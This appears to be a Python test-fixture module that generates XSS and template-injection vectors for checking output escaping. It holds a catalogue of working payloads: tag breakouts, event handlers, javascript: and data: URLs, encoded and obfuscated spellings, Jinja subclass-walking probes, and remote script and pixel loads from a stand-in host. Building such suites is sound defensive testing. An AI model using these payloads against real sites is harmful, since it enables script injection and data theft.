"""Ways in which the words of a page try to become a script, for every place that shows them.

Each that runs sets ``window.__pwned`` or opens a dialog.
"""

from __future__ import annotations

from itertools import product

CALL = "window.__pwned=1,alert(1)"
_BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "</noscript>",
    "</template>",
    "</svg>",
    "\\u0022>",
)
"""What ends the place that the words were put in."""
_ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT>",
    f"<script/x>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<img/src/onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}//",
    f"<svg><script>{CALL}</script></svg>",
    f"<body onload={CALL}>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f'<iframe src="javascript:parent.{CALL}"></iframe>',
    f"<details open ontoggle={CALL}>x",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f'<object data="javascript:{CALL}"></object>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f'<meta http-equiv=refresh content="0;url=javascript:{CALL}">',
)
_ATTRIBUTES = tuple(
    f"{quote} {handler}={CALL} {rest} {quote}"
    for quote, (handler, rest) in product(
        ('"', "'", "`", ""),
        (
            ("onfocus", "autofocus tabindex=1"),
            ("onmouseover", "style=position:fixed;inset:0"),
            ("onanimationstart", "style=animation-name:x"),
            ("onerror", "src=x"),
            ("ontoggle", "open"),
            ("onpointerenter", "x="),
        ),
    )
)
_ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"//x.invalid/%3Cscript%3E{CALL}%3C/script%3E",
    f"file:///etc/passwd#<script>{CALL}</script>",
)
_TEMPLATES = (
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "#{alert(1)}",
    "{{{alert(1)}}}",
    "[[${alert(1)}]]",
    "{# x #}{{ self.__init__.__globals__ }}",
    "{%raw%}<script>alert(1)</script>{%endraw%}",
)
_SPELLED = (
    f"<scr\x00ipt>{CALL}</scr\x00ipt>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"＜script＞{CALL}＜/script＞",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"<script\n>{CALL}</script\n>",
    f"<<script>{CALL}//<</script>",
    f"<script>{CALL}",
    f"\u202e<script>{CALL}</script>\u202c",
    f"\u2028<script>{CALL}</script>",
    f"\x1b]0;x\x07<script>{CALL}</script>",
    f'<a href="javascript:{CALL}" autofocus onfocus={CALL}>x</a>',
    f'<form action="javascript:{CALL}"><button autofocus onfocus={CALL}>x',
    "<base href=//x.invalid/><script src=x.js></script>",
    "<link rel=stylesheet href=//x.invalid/x.css>",
    "<style>@import '//x.invalid/x.css';*{background:url(//x.invalid/x)}</style>",
    "<img src=//x.invalid/pixel.gif>",
    f"![x](javascript:{CALL})",
    f"[x](javascript:{CALL})",
    f'=HYPERLINK("javascript:{CALL}")',
)


def vectors() -> tuple[str, ...]:
    """Every vector, each once."""
    broken = (before + element for before, element in product(_BREAKS, _ELEMENTS))
    return tuple(dict.fromkeys((*broken, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES, *_SPELLED)))
